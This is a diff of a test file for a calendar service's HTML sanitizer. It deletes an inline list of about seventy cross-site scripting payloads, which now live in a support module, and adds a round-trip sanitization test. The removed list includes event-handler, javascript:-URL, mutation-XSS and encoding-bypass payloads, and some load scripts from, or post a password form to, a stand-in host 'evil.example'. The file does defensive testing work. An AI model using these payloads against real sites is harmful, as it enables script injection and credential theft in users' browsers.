@@ -1,80 +1,10 @@
 import { describe, expect, it } from 'vitest'
 import { createCalendarClient } from '../../../client/index.ts'
+import { markupAttacks, scriptAttacks } from '../../support/html-attacks.ts'
 import { findUnsafeMarkup } from '../../support/unsafe-markup.ts'
 import { uniqueName, useService } from '../../support/use-service.ts'
 
 const { service, rest } = useService()
-
-/** Texts that make browsers run a script, load a file or cover the page. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<<script>script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<img/src=x/onerror=alert(1)>',
-  '<img src="https://a.example/x.png" onerror\t=\nalert(1)>',
-  '<img src="https://a.example/x.png" alt="`onerror=alert(1)`">',
-  '<img src=x onerror=alert(1) ',
-  '"><img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<p onclick=alert(1)>x</p>',
-  '<p \0onclick=alert(1)>x</p>',
-  '<p o\0nclick=alert(1)>x</p>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<a href="https://a.example/"onmouseover=alert(1)>x</a>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)" target=_blank>x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href=" \t\r\n javascript:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="feed:javascript:alert(1)">x</a>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<p style="position:fixed;inset:0;text-align:left">x</p>',
-  '<p style="width:expression(alert(1))">x</p>',
-  '<style>@import "//evil.example/x.css"</style>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<base href="//evil.example/">',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<form action="https://evil.example/"><input name=password><button>x</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
-  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
-  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<template><script>alert(1)</script></template>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!-- --!><img src=x onerror=alert(1)>',
-  '<![CDATA[><img src=x onerror=alert(1)>]]>',
-  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
-  '</p/><img src=x onerror=alert(1)//',
-  '<a name=getElementById id=location>x</a>',
-  '<p title="<img src=x onerror=alert(1)>">x</p>',
-  '<b><i title="</i><img src=x onerror=alert(1)>">x</b>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '＜script＞alert(1)＜/script＞',
-  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-]
 
 /** Fields with sanitized HTML, and fields without HTML. */
 const htmlFields = ['description', 'excerpt']
@@ -141,7 +71,7 @@ function collectTexts(answer: unknown, fields: string[]): string[] {
 
 const encodings = ['JSON', 'a form', 'a form in parts', 'the query', 'RPC']
 
-describe.each(attacks)('%s', attack => {
+describe.each(scriptAttacks)('%s', attack => {
   it.each(encodings)('sent as %s: the stored event contains no unsafe markup', async encoding => {
     const { id } = await createEvent(encoding, {
       ...{ title: `${uniqueName('Title')} ${attack}`, cost: attack, description: attack, excerpt: attack },
@@ -167,6 +97,21 @@ describe.each(attacks)('%s', attack => {
       expect(body.name).not.toMatch(/<[a-z/!?]/i)
     }
   })
+})
+
+describe('attributes and styles', () => {
+  it.each(markupAttacks)(
+    '%s: the stored texts contain no unsafe markup and stay when they are sent again',
+    async attack => {
+      const texts = { description: attack, excerpt: attack }
+      const created = await createEvent('JSON', { title: uniqueName('Title'), ...texts, ...requiredFields })
+      const stored = { description: created.description, excerpt: created.excerpt }
+      const { body } = await rest.patch(`/events/${created.id}`, stored)
+
+      expect(collectTexts(body, htmlFields).flatMap(findUnsafeMarkup)).toEqual([])
+      expect(body).toMatchObject(stored)
+    },
+  )
 })
 
 describe('responses', () => {
